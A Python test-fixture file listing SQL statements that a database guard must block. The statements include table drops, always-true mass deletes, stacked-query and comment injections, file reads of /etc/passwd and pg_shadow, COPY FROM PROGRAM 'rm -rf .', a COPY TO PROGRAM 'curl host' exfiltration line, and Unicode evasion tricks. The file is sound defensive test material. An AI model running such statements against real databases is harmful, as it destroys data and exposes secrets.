"""Statements that must not get through, by what they try. `SHARED` holds for both dialects."""

from signoff.contracts.guarded_db.staging import must_confirm
from signoff.contracts.guarded_db.verdict import Allowed, Verdict

SHARED = {
    "schema": """
DROP TABLE books
drop table if exists books
DROP TABLE "books"
DROP VIEW v
DROP INDEX i
DROP SCHEMA public CASCADE
DROP DATABASE library
TRUNCATE books
TRUNCATE TABLE books
TRUNCATE TABLE books CASCADE
ALTER TABLE books ADD COLUMN x int
ALTER TABLE books DROP COLUMN title
ALTER TABLE books RENAME TO gone
CREATE TABLE x (a int)
CREATE TABLE IF NOT EXISTS x (a int)
CREATE TABLE x AS SELECT * FROM books
CREATE TEMP TABLE x (a int)
CREATE VIEW v AS SELECT * FROM books
CREATE INDEX i ON books (title)
CREATE TRIGGER t AFTER INSERT ON books BEGIN DELETE FROM chapters; END
CREATE OR REPLACE VIEW v AS SELECT 1
REINDEX books
ANALYZE books
VACUUM
""",
    "every row": """
DELETE FROM books
delete from books
DELETE FROM books;
DELETE FROM books WHERE 1=1
DELETE FROM books WHERE TRUE
DELETE FROM books WHERE 1
DELETE FROM books WHERE NOT FALSE
DELETE FROM books WHERE 'a' = 'a'
DELETE FROM books WHERE (((1))) = 1
DELETE FROM books WHERE 2 > 1
DELETE FROM books WHERE id = id
DELETE FROM books WHERE books.id = id OR 1=1
DELETE FROM books WHERE id = 1 OR 1=1
DELETE FROM books WHERE id = 1 OR TRUE
DELETE FROM books WHERE id = 1 OR 'x' LIKE '%'
DELETE FROM books WHERE title LIKE '%'
DELETE FROM books WHERE title LIKE '%%'
DELETE FROM books WHERE id IS NULL OR id IS NOT NULL
DELETE FROM books WHERE id = 1 OR id <> 1
DELETE FROM books WHERE id = 1 OR NOT id = 1
DELETE FROM books WHERE id = 1 OR 1 != id
DELETE FROM books WHERE id < 5 OR id >= 5
DELETE FROM books WHERE NOT (id <> id)
DELETE FROM books WHERE id BETWEEN id AND id
DELETE FROM books WHERE id IN (id)
DELETE FROM books WHERE id IN (SELECT id FROM books)
DELETE FROM books WHERE EXISTS (SELECT 1)
DELETE FROM books WHERE EXISTS (SELECT 1 FROM chapters)
DELETE FROM books WHERE (SELECT count(*) FROM books) > 0
DELETE FROM books WHERE length(title) >= 0
DELETE FROM books WHERE abs(id) >= 0
DELETE FROM books WHERE coalesce(1, 0) = 1
DELETE FROM books WHERE NULL IS NULL
DELETE FROM books WHERE 1 IN (1, 2)
DELETE FROM books WHERE CASE WHEN 1=1 THEN 1 ELSE 0 END = 1
DELETE FROM books WHERE :everything
DELETE FROM books WHERE id = :id OR :everything = 1
DELETE FROM books RETURNING *
DELETE FROM books AS b
DELETE FROM books AS b WHERE b.id = b.id
UPDATE books SET title = 'gone'
UPDATE books SET title = 'gone' RETURNING id
UPDATE books SET title = 'gone' FROM chapters
UPDATE books SET title = (SELECT 'gone' WHERE 1=1)
WITH x AS (SELECT 1) DELETE FROM books
WITH x AS (SELECT 1) UPDATE books SET title = 'gone'
""",
    "several statements": """
SELECT 1; DELETE FROM books
SELECT 1; DROP TABLE books
SELECT 1; DROP TABLE books; --
SELECT 1;;DELETE FROM books
;DROP TABLE books
; SELECT 1; DROP TABLE books
INSERT INTO books (title) VALUES ('a'); DELETE FROM books
UPDATE books SET title = 'x' WHERE id = 1; UPDATE books SET title = 'y'
SELECT 'it''s'; DROP TABLE books
SELECT ';' ; DROP TABLE books
SELECT 1; SELECT 2
SELECT 1/* ; */; DROP TABLE books
BEGIN; DROP TABLE books; COMMIT
""",
    "comments": """
/* SELECT */ DROP TABLE books
/**/DELETE/**/FROM/**/books
-- SELECT 1
/* SELECT 1 */
SELECT 1 /* open
SELECT 1 */ ; DROP TABLE books
SELECT 1 /* a /* b */ ; DELETE FROM books -- */
SELECT 1 /* a /* b */ c */
DELETE FROM books -- WHERE id = 1
DELETE FROM books /* WHERE id = 1 */
UPDATE books SET title = 'x' --WHERE id = 1
DELETE FROM books WHERE 1=1 -- AND id = 1
DELETE FROM books WHERE /* id = */ 1
DR/**/OP TABLE books
/*! DROP TABLE books */
""",
    "hidden changes": """
WITH x AS (DELETE FROM books RETURNING *) SELECT * FROM x
WITH x AS (DELETE FROM books WHERE id = 1 RETURNING *) SELECT * FROM x
WITH x AS (UPDATE books SET title = 'x' RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO books (title) VALUES ('x') RETURNING *) SELECT * FROM x
WITH a AS (WITH b AS (DELETE FROM books RETURNING *) SELECT * FROM b) SELECT * FROM a
WITH x AS (DELETE FROM books WHERE id = 1 RETURNING id) UPDATE chapters SET n = 1 WHERE id = 1
WITH x AS (DELETE FROM books WHERE id = 1 RETURNING id) INSERT INTO chapters (id) SELECT id FROM x
WITH RECURSIVE x AS (DELETE FROM books RETURNING id) SELECT 1
SELECT * FROM (DELETE FROM books RETURNING *) AS x
SELECT (DELETE FROM books RETURNING id)
EXPLAIN ANALYZE DELETE FROM books
EXPLAIN ANALYZE DELETE FROM books WHERE id = 1
EXPLAIN (ANALYZE) UPDATE books SET title = 'x'
EXPLAIN ANALYZE SELECT 1
MERGE INTO books USING chapters ON books.id = chapters.id WHEN MATCHED THEN DELETE
MERGE INTO books b USING chapters c ON b.id = c.id WHEN MATCHED THEN UPDATE SET title = 'x'
REPLACE INTO books (id, title) VALUES (1, 'x')
INSERT OR REPLACE INTO books (id, title) VALUES (1, 'x')
insert or replace into books values (1, 'x')
INSERT OR ROLLBACK INTO books (id) VALUES (1)
UPDATE OR REPLACE books SET id = 2 WHERE id = 1
SELECT * INTO gone FROM books
INSERT OVERWRITE books SELECT 1
CALL wipe()
DO $$ BEGIN DELETE FROM books; END $$
EXECUTE wipe
PREPARE wipe AS DELETE FROM books
DECLARE c CURSOR FOR SELECT 1
""",
    "records of signoff": """
INSERT INTO signoff_steps (run, step, visit, item, applied_at) VALUES ('r', 's', 1, '', 'now')
insert into SIGNOFF_STEPS values ('r', 's', 1, '', 'now')
INSERT INTO "signoff_steps" VALUES ('r', 's', 1, '', 'now')
INSERT INTO "SignOff_Steps" VALUES ('r', 's', 1, '', 'now')
UPDATE signoff_steps SET visit = 2 WHERE visit = 1
UPDATE signoff_migrations SET checksum = 'x' WHERE version = 1
DELETE FROM signoff_steps WHERE run = 'r'
DELETE FROM signoff_database WHERE id = 'x'
UPDATE signoff_database SET id = 'x' WHERE id = 'y'
""",
    "settings and files": """
PRAGMA writable_schema = 1
PRAGMA foreign_keys = OFF
PRAGMA journal_mode = OFF
pragma table_info(books)
ATTACH DATABASE 'other.db' AS other
ATTACH 'file:other.db?mode=rwc' AS other
DETACH DATABASE other
VACUUM INTO 'copy.db'
LOAD 'library'
COPY books TO '/etc/passwd'
COPY books FROM PROGRAM 'rm -rf .'
COPY (SELECT * FROM books) TO PROGRAM 'curl host'
COPY books FROM STDIN
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
SET search_path TO evil
SET standard_conforming_strings = off
SET TRANSACTION READ WRITE
RESET ALL
DISCARD ALL
GRANT ALL ON books TO PUBLIC
REVOKE ALL ON books FROM PUBLIC
LOCK TABLE books
LISTEN x
NOTIFY x
UNLISTEN *
SECURITY LABEL ON TABLE books IS 'x'
COMMENT ON TABLE books IS 'x'
BEGIN
START TRANSACTION
COMMIT
END
ROLLBACK
SAVEPOINT a
RELEASE a
ROLLBACK TO a
PREPARE TRANSACTION 'x'
CHECKPOINT
CLUSTER books
REFRESH MATERIALIZED VIEW v
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO public
""",
    "functions": """
SELECT load_extension('evil')
SELECT writefile('x', 'y')
SELECT readfile('/etc/passwd')
SELECT edit('x')
SELECT fts3_tokenizer('x', 1)
SELECT pg_sleep(1000)
SELECT pg_catalog.pg_sleep(1000)
SELECT "pg_sleep"(1000)
SELECT PG_SLEEP(1000)
SELECT pg_read_file('/etc/passwd')
SELECT * FROM pg_read_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_unlink(1)
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_advisory_lock(1)
SELECT set_config('search_path', 'evil', false)
SELECT setval('books_id_seq', 1)
INSERT INTO books (id) VALUES (setval('books_id_seq', 1))
UPDATE books SET id = setval('books_id_seq', 1) WHERE id = 1
SELECT setseed(0.5)
SELECT currval(pg_get_serial_sequence('books', 'id'))
SELECT "lo_unlink"(1)
SELECT pg_notify('x', 'y')
SELECT txid_current()
SELECT pg_export_snapshot()
SELECT xpath('/a', '<a/>')
SELECT dblink_exec('', 'DELETE FROM books')
SELECT * FROM dblink('', 'DELETE FROM books') AS x(a int)
SELECT query_to_xml('DELETE FROM books', true, true, '')
SELECT table_to_xml('books', true, true, '')
SELECT pg_file_write('x', 'y', false)
SELECT wipe_everything()
SELECT public.lower('x')
SELECT evil.wipe()
UPDATE books SET title = wipe_everything() WHERE id = 1
INSERT INTO books (title) VALUES (pg_read_file('/etc/passwd'))
INSERT INTO books (title) SELECT pg_ls_dir('/')
SELECT * FROM books WHERE wipe_everything() = 1
SELECT * FROM books ORDER BY wipe_everything()
SELECT count(*) FILTER (WHERE wipe_everything()) FROM books
SELECT CASE WHEN wipe_everything() THEN 1 END
SELECT * FROM pg_catalog.pg_authid
""",
    "system tables": """
DELETE FROM sqlite_master WHERE name = 'books'
UPDATE sqlite_master SET sql = 'x' WHERE name = 'books'
INSERT INTO sqlite_master VALUES (1)
UPDATE sqlite_schema SET sql = 'x' WHERE name = 'books'
DELETE FROM sqlite_sequence WHERE name = 'books'
UPDATE pg_class SET relname = 'x' WHERE relname = 'books'
DELETE FROM pg_catalog.pg_class WHERE relname = 'books'
UPDATE information_schema.tables SET table_name = 'x' WHERE table_name = 'y'
INSERT INTO pg_catalog.books (id) VALUES (1)
""",
    "nonsense": """
hello
SELECT FROM WHERE
SELEC * FROM books
DELETE books WHERE id = 1 AND
SELECT (((
SELECT 'open
SELECT "open
INSERT books
UPDATE WHERE id = 1
DELETE FROM books WHERE id IN (SELECT FROM books)
WITH x AS (REVOKE FROM books) SELECT 1
SELECT a -> '$.[' FROM books WHERE
12345
()
""",
}

SQLITE = """
SELECT `open
SELECT [open
DELETE FROM [books]
DELETE FROM `books` WHERE 1
DELETE FROM 'books'
DELETE FROM main.books
DELETE FROM books WHERE rowid IS NOT NULL
DELETE FROM books WHERE title GLOB '*'
DELETE FROM books NOT INDEXED
DELETE FROM books INDEXED BY i
SELECT * FROM other.books
INSERT INTO temp.books (id) VALUES (1)
UPDATE other.books SET title = 'x' WHERE id = 1
SELECT * FROM pragma_table_info('books')
SELECT * FROM pragma_table_info
SELECT sqlite_compileoption_get(1)
DELETE FROM books ORDER BY id LIMIT 1000000
INSERT OR FAIL INTO books (id) VALUES (1)
INSERT INTO [signoff_steps] VALUES (1)
SELECT 'a\\'; DELETE FROM books; --'
SELECT zipfile('x', 'y')
SELECT * FROM books FOR UPDATE
SELECT * FROM books FOR SHARE
UPDATE books SET title = 'x' WHERE id IN (SELECT id FROM books WHERE id = 1 FOR UPDATE)
INSERT INTO pages (pages) VALUES ('delete-all')
INSERT INTO pages (pages) VALUES ('rebuild')
INSERT INTO PAGES ("Pages", rank) VALUES ('rank', 'bm25(10.0)')
INSERT INTO pages (pages, rowid, body) VALUES ('delete', 1, 'the word')
UPDATE pages SET pages = 'delete-all' WHERE rowid = 1
SELECT * FROM sqlite_dbpage
SELECT * FROM sqlite_stmt
UPDATE sqlite_dbpage SET data = x'00' WHERE pgno = 1
"""

POSTGRES = """
SELECT $$open
SELECT $a$ x $b$
SELECT $$a$$; DELETE FROM books
SELECT $a$ $$ $a$; DELETE FROM books
SELECT E'a\\'' ; DELETE FROM books; --'
SELECT 'a\\'; DELETE FROM books; --'
SELECT U&'d\\0061t\\+000061'
SELECT U&"d\\0061t\\+000061" FROM books
DELETE FROM ONLY books
DELETE FROM books USING chapters
DELETE FROM books USING chapters WHERE chapters.id = 1
DELETE FROM books USING chapters WHERE chapters.id = chapters.id
DELETE FROM books WHERE title ILIKE '%'
DELETE FROM books WHERE title SIMILAR TO '%'
DELETE FROM books WHERE ctid IS NOT NULL
DELETE FROM books WHERE true::boolean
DELETE FROM books WHERE id IS NOT DISTINCT FROM id
SELECT * INTO TEMP x FROM books
SELECT * INTO UNLOGGED x FROM books
WITH x AS MATERIALIZED (DELETE FROM books RETURNING *) SELECT 1
WITH x AS NOT MATERIALIZED (DELETE FROM books RETURNING *) SELECT 1
(WITH x AS (DELETE FROM books RETURNING *) SELECT 1)
SELECT 1 UNION (WITH x AS (DELETE FROM books RETURNING *) SELECT 1 FROM x)
TABLE books; DROP TABLE books
VALUES (pg_sleep(10))
SELECT ts_rewrite('a'::tsquery, 'SELECT pg_sleep(10)')
SELECT * FROM ts_stat('SELECT pg_sleep(10)')
SELECT * FROM ROWS FROM (pg_ls_dir('/')) AS x
SELECT lateral_evil.* FROM books, LATERAL wipe(books.id) AS lateral_evil
CREATE RULE r AS ON INSERT TO books DO INSTEAD DELETE FROM books
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE EXTENSION dblink
ALTER SYSTEM SET fsync = off
ALTER ROLE postgres PASSWORD 'x'
SELECT current_setting('is_superuser'), set_config('role', 'postgres', false)
INSERT INTO books (id, title) VALUES (nextval('books_id_seq'), 'seq') RETURNING *
SELECT id FROM books WHERE id = 1 FOR UPDATE
SELECT id FROM books ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED
SELECT b.id FROM books b JOIN chapters c ON c.book = b.id FOR NO KEY UPDATE OF b NOWAIT
SELECT id FROM books FOR SHARE
SELECT id FROM books WHERE id = 1 FOR KEY SHARE
SELECT nextval('books_id_seq')
SELECT pg_catalog.nextval('books_id_seq')
SELECT "nextval"('books_id_seq')
INSERT INTO books (id) VALUES (nextval('books_' || 'id_seq'))
INSERT INTO books (id) VALUES (nextval(title))
UPDATE books SET id = nextval('books_id_seq') WHERE id = 1
UPDATE books SET title = 'x' WHERE id = nextval('books_id_seq')
SELECT * FROM books WHERE id < nextval('books_id_seq'::regclass)
SELECT * FROM pg_shadow
SELECT passwd FROM pg_user_mapping
SELECT * FROM pg_settings
SELECT * FROM pg_catalog.pg_settings
SELECT * FROM "pg_settings"
SELECT * FROM pg_file_settings
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_stat_activity
SELECT query FROM books, pg_stat_activity
SELECT title FROM books WHERE id IN (SELECT pid FROM pg_stat_activity)
UPDATE books SET title = (SELECT max(query) FROM pg_stat_activity) WHERE id = 1
INSERT INTO books (title) SELECT setting FROM pg_settings
SELECT * FROM pg_stat_replication
SELECT * FROM pg_stat_ssl
SELECT * FROM pg_stat_statements
SELECT * FROM pg_locks
SELECT * FROM pg_roles
SELECT * FROM pg_user
SELECT * FROM pg_auth_members
SELECT * FROM pg_stats
SELECT * FROM pg_statistic
SELECT prosrc FROM pg_proc
SELECT * FROM pg_db_role_setting
SELECT * FROM pg_prepared_statements
SELECT * FROM pg_largeobject
SELECT * FROM pg_foreign_server
SELECT * FROM information_schema.user_mapping_options
SELECT * FROM information_schema.routines
SELECT * FROM pg_toast.pg_toast_1
SELECT * FROM pg_temp.books
TABLE pg_settings
SELECT repeat('x', 1000000000)
SELECT repeat('x', $1)
SELECT repeat('x', (SELECT 1000000000))
SELECT repeat(repeat('x', 9999), 9999)
SELECT repeat('x', 1e9::int)
SELECT lpad('x', 1000000000)
SELECT rpad('x', id) FROM books
SELECT format('%1000000000s', 'x')
SELECT format('%*s', 1000000000, 'x')
SELECT format(title, 'x') FROM books
UPDATE books SET title = repeat('x', 1000000000) WHERE id = 1
SELECT pg_read_file FROM pg_read_file('PG_VERSION')
SELECT JSON_OBJECT('a': pg_read_file('PG_VERSION'))
SELECT JSON_ARRAY(pg_read_file('PG_VERSION'))
SELECT JSON_VALUE('{}', '$.a' DEFAULT pg_read_file('PG_VERSION') ON EMPTY)
SELECT XMLELEMENT(NAME a, pg_read_file('PG_VERSION'))
SELECT EXTRACT(epoch FROM pg_read_file('x')::timestamp)
SELECT make_interval(days => wipe())
SELECT concat(VARIADIC ARRAY[pg_read_file('PG_VERSION')])
SELECT * FROM books TABLESAMPLE SYSTEM (wipe())
SELECT 1 FROM books LIMIT wipe()
SELECT DISTINCT ON (wipe()) 1 FROM books
SELECT sum(price) OVER w FROM books WINDOW w AS (ORDER BY wipe())
SELECT 1 FROM books GROUP BY GROUPING SETS ((wipe()))
SELECT percentile_cont(wipe()) WITHIN GROUP (ORDER BY price) FROM books
SELECT * FROM ROWS FROM (generate_series(1, 2), wipe()) AS x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT wipe() FROM x WHERE n < 2) SELECT * FROM x
SELECT 1 AS a$x$, pg_read_file('PG_VERSION') AS b$x$
SELECT title AS a$x$, passwd AS b$x$ FROM books, pg_shadow
SELECT now() AT TIME ZONE (SELECT pg_read_file('PG_VERSION'))
"""


CALLS = """
wipe()
"wipe"()
public.wipe()
lower(wipe())
CAST(wipe() AS int)
(SELECT wipe())
CASE WHEN wipe() THEN 1 END
count(*) FILTER (WHERE wipe())
load_extension('evil')
pg_read_file('PG_VERSION')
pg_catalog.pg_sleep(1)
set_config('role', 'postgres', false)
setval('books_id_seq', 1)
"""
"""Forbidden calls, alone and inside others."""

PLACES = """
SELECT {}
SELECT title FROM books WHERE {} = 1
SELECT title FROM books ORDER BY {}
SELECT title FROM books GROUP BY title, {}
SELECT count(*) FROM books HAVING {} = 1
SELECT title FROM books LIMIT {}
SELECT title FROM books LIMIT 1 OFFSET {}
SELECT * FROM books b JOIN chapters c ON {} = c.id
SELECT * FROM (SELECT {} AS x) y
SELECT * FROM {} AS x
SELECT * FROM books, LATERAL (SELECT {}) x
SELECT * FROM books TABLESAMPLE SYSTEM ({})
SELECT DISTINCT ON ({}) 1 FROM books
SELECT title FROM books GROUP BY ROLLUP (title, {})
SELECT title FROM books WHERE title LIKE {} ESCAPE 'x'
SELECT title FROM books WHERE id IN (1, {})
SELECT title FROM books WHERE id BETWEEN 1 AND {}
SELECT meta -> {} FROM books
SELECT tags[{}] FROM books
SELECT sum(id) OVER (PARTITION BY {}) FROM books
SELECT sum(id) OVER (ORDER BY id ROWS {} PRECEDING) FROM books
SELECT sum(id) OVER w FROM books WINDOW w AS (ORDER BY {})
SELECT 1 UNION SELECT {}
VALUES ({})
WITH x AS (SELECT {}) SELECT 1
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT {} FROM x WHERE n < 2) SELECT n FROM x
UPDATE books SET title = {} WHERE id = 1
UPDATE books SET title = 'x' WHERE id = {}
UPDATE books SET title = 'x' WHERE id = 1 RETURNING {}
UPDATE books SET title = x.t FROM (SELECT {} AS t) AS x WHERE id = 1
INSERT INTO books (title) VALUES ({})
INSERT INTO books (title) SELECT {}
INSERT INTO books (title) VALUES ('x') RETURNING {}
INSERT INTO books (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET title = {}
INSERT INTO books (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET title = 'x' WHERE {} = 1
"""
"""Everywhere that a statement can have an expression."""


def lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip()]


ODD = [
    "",
    "   ",
    ";",
    "SELECT 1\0; DROP TABLE books",
    "\u017fELECT 1",
    "DELETE\u00a0FROM books WHERE id = 1",
    "SELECT\u200b1",
    "SELECT 1 \u2028 FROM books",
    "\ufeffSELECT 1",
    "DELETE FROM books -- x\rWHERE id = 1",
    "SELECT 1 -- x\r; DROP TABLE books",
    "SELECT 1 -- x\r, pg_read_file('PG_VERSION')",
    "SELECT usename FROM books --\r, pg_shadow",
    "UPDATE boo\u212as SET title = 'x' WHERE id = 1",
    "SELECT 1\x0c; DROP TABLE books",
    "SELECT \u2018x\u2019",
    "DELETE FROM books\nWHERE\n1=1",
    "DeLeTe\tFrOm\nbooks",
    "DROP\n\n\nTABLE\tbooks",
    "SELECT 1;\n\n\nDROP TABLE books",
    "-- harmless\nDROP TABLE books",
    "-- harmless\nDELETE FROM books",
    "/* harmless */\n\nUPDATE books SET title = 'x'",
    "SELECT " + "(" * 3000 + "1" + ")" * 3000,
    "SELECT 1" + " UNION SELECT 1" * 5000 + "; DROP TABLE books",
]
"""What does not fit on a line of the lists above."""

ATTACKS = {
    "sqlite": [*(s for part in SHARED.values() for s in lines(part)), *lines(SQLITE), *ODD],
    "postgres": [*(s for part in SHARED.values() for s in lines(part)), *lines(POSTGRES), *ODD],
}

NEED_THE_SCHEMA = {
    "sqlite": """
UPDATE pages_content SET c0 = 'x' WHERE id = 1
INSERT INTO pages_data (id, block) VALUES (99, x'00')
INSERT INTO main.pages_idx VALUES (1, 'x', 2)
UPDATE "Pages_Config" SET v = 3 WHERE k = 'version'
SELECT * FROM pages_data
SELECT title FROM books WHERE id IN (SELECT id FROM pages_content)
INSERT INTO books (title) SELECT c0 FROM pages_content
SELECT zeroblob(100000000)
SELECT randomblob(100000000)
SELECT replace(hex(zeroblob(30000000)), '0', 'xxxxxxxx')
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 80) SELECT zeroblob(1e6) FROM n
""",
    "postgres": """
SELECT b.wipe_book FROM books b
SELECT b."wipe_book" FROM books b
SELECT books.wipe_book FROM books
SELECT (b).wipe_book FROM books b
SELECT ((b)).wipe_book FROM books b
SELECT public.books.wipe_book FROM books
SELECT b.wipe_any FROM books b
SELECT x.wipe_any FROM (SELECT 1 AS one) AS x
SELECT (SELECT b FROM books b LIMIT 1).wipe_book
SELECT (array_agg(b))[1].wipe_book FROM books b
SELECT title FROM books b ORDER BY b.wipe_book
SELECT title FROM books b WHERE b.wipe_book = 1
WITH x AS (SELECT * FROM books) SELECT x.wipe_any FROM x
UPDATE books AS b SET title = 'x' WHERE b.id = 1 AND b.wipe_book = 1
UPDATE books SET price = books.wipe_book WHERE id = 1
UPDATE books SET title = 'x' WHERE id = 1 RETURNING books.wipe_book
INSERT INTO books (title) VALUES ('x') RETURNING books.wipe_book
INSERT INTO books (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET price = excluded.wipe_book
SELECT ('.').pg_ls_dir
SELECT ('PG_VERSION').pg_read_file
SELECT ('PG_VERSION'::text)."pg_read_file"
SELECT (0.01::float8).pg_sleep
SELECT (1).pg_terminate_backend
SELECT ('books_id_seq'::regclass).nextval
INSERT INTO books (id) VALUES (nextval('tickets'))
INSERT INTO books (title) VALUES (nextval('public.tickets'::regclass)::text)
INSERT INTO books (title) SELECT nextval('tickets') FROM chapters
INSERT INTO chapters (book, n) VALUES (1, nextval('books_id_seq'))
INSERT INTO books (id) VALUES (nextval('no_such_sequence'))
SELECT (SELECT 'PG_VERSION').pg_read_file
SELECT x.pg_read_file FROM unnest(ARRAY['PG_VERSION']) AS x
SELECT unnest.pg_read_file FROM unnest(ARRAY['PG_VERSION'])
SELECT x.pg_sleep FROM generate_series(1, 2) AS x
SELECT x.pg_ls_dir FROM LATERAL unnest(ARRAY['.']) AS x
SELECT y.pg_read_file FROM books AS b, LATERAL unnest(ARRAY['PG_VERSION']) AS y
SELECT (title).wipe_text FROM books
SELECT (b.title).wipe_text FROM books b
SELECT x.wipe_text FROM unnest(ARRAY['a']) AS x
SELECT lower(b) FROM books b
SELECT lower(books) FROM books
UPDATE books AS b SET price = lower(b) WHERE id = 1
SELECT "lower"(b) FROM books b
SELECT (b).lower FROM books b
SELECT ((b)).lower FROM books b
UPDATE books SET price = (books).lower WHERE id = 1
SELECT b.wipeÖ FROM books b
UPDATE books SET price = books.wipeÖ WHERE id = 1
UPDATE books SET price = books.WipeÖ WHERE id = 1
UPDATE books SET price = books."WIPEÄ" WHERE id = 1
UPDATE books SET price = (books)."WIPEÄ" WHERE id = 1
SELECT "ran\u212a"(1)
UPDATE books SET price = "ran\u212a"(1) WHERE id = 1
SELECT (1)."ran\u212a"
SELECT (array_agg(b))[1].lower FROM books b
SELECT (first_value(b) OVER ()).wipe_book FROM books b
SELECT x.wipe_book FROM json_populate_recordset(NULL::books, '[{}]') x
SELECT (json_populate_record(NULL::books, '{}')).wipe_book
SELECT (CASE WHEN true THEN b END).wipe_book FROM books b
SELECT b/**/./**/wipe_book FROM books b
UPDATE books SET title = 'x' WHERE id = 1 RETURNING new.wipe_book
INSERT INTO books AS b (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET price = b.wipe_book
""",
}
"""Statements that only the connection can refuse, because they depend on the schema."""

LONG_NAME = "wipe_by_a_name_that_is_cut_off_after_sixty_three_characters_of_it"
NEED_THE_SCHEMA["postgres"] += f"""
UPDATE books SET price = books.{LONG_NAME} WHERE id = 1
UPDATE books SET price = (books).{LONG_NAME} WHERE id = 1
"""

WIPERS = """
CREATE SEQUENCE tickets;
CREATE FUNCTION wipe_book(books) RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN DELETE FROM chapters; RETURN 1; END $$;
CREATE FUNCTION wipe_any(anyelement) RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN DELETE FROM chapters; RETURN 1; END $$;
CREATE FUNCTION wipe_text(text) RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN DELETE FROM chapters; RETURN 1; END $$;
CREATE FUNCTION lower(books) RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN DELETE FROM chapters; RETURN 1; END $$;
CREATE FUNCTION wipeÖ(books) RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN DELETE FROM chapters; RETURN 1; END $$;
CREATE FUNCTION "WIPEÄ"(books) RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN DELETE FROM chapters; RETURN 1; END $$;
CREATE FUNCTION "ran\u212a"(int) RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN DELETE FROM chapters; RETURN 1; END $$;
CREATE FUNCTION wipe_by_a_name_that_is_cut_off_after_sixty_three_characters_of_(books)
    RETURNS int LANGUAGE plpgsql AS
    $$ BEGIN DELETE FROM chapters; RETURN 1; END $$;
"""
"""Functions of a project that do damage."""

EVERY_ROW = """
UPDATE books SET title = 'gone' WHERE 1=1
UPDATE books SET title = 'gone' WHERE true
UPDATE books SET title = 'gone' WHERE title = title
UPDATE books SET title = 'gone' WHERE id >= id
UPDATE books SET title = 'gone' WHERE id = 1 OR 2 = 2
UPDATE books SET title = 'gone' WHERE (id = 1) OR (NOT (id = 1))
UPDATE books SET title = 'gone' WHERE id = 1 OR (id = 2 OR 1=1)
UPDATE books SET title = 'gone' WHERE 1=1 AND 2=2
UPDATE books SET title = 'gone' WHERE id = id AND title = title
UPDATE books SET title = 'gone' FROM chapters WHERE chapters.id = 1
UPDATE books SET title = 'gone' FROM chapters AS c WHERE c.id = c.id
UPDATE books SET title = 'gone' WHERE id IN (SELECT id FROM books WHERE 1=1)
UPDATE books SET title = 'gone' WHERE id IN (SELECT b.id FROM books AS b)
UPDATE books SET title = 'gone' WHERE id = ANY(SELECT id FROM books)
UPDATE books SET title = 'gone' WHERE (id, 1) = (id, 1)
UPDATE books SET title = 'gone' WHERE coalesce(id, 1) = coalesce(id, 1)
INSERT INTO books (id) SELECT id FROM books WHERE 1=1 ON CONFLICT (id) DO UPDATE SET title = 'gone'
INSERT INTO books (id) SELECT b.id FROM books b WHERE b.id=b.id ON CONFLICT(id) DO UPDATE SET id = 1
UPDATE books SET title = 'x' WHERE id > 0
UPDATE books SET title = 'x' WHERE price >= 0 OR price IS NULL
UPDATE books SET title = 'x' WHERE length(coalesce(title, '')) < 1000
"""
"""Changes of every row that have a condition: no list of such conditions is complete."""

NEED_A_TOKEN = [
    "DELETE FROM books WHERE id = 1",
    "delete from books where id = 1 returning *",
    "DELETE FROM books WHERE id IN (SELECT book FROM chapters WHERE n = 3)",
    "WITH x AS (SELECT 1 AS id) DELETE FROM books WHERE id IN (SELECT id FROM x)",
    "DELETE FROM books AS b WHERE b.id = 1",
]
"""Sound deletes: judged as such, and let through with a token only."""


def runs(verdict: Verdict) -> bool:
    """Whether a statement with this verdict runs without a confirmation."""
    return isinstance(verdict, Allowed) and not must_confirm(verdict)
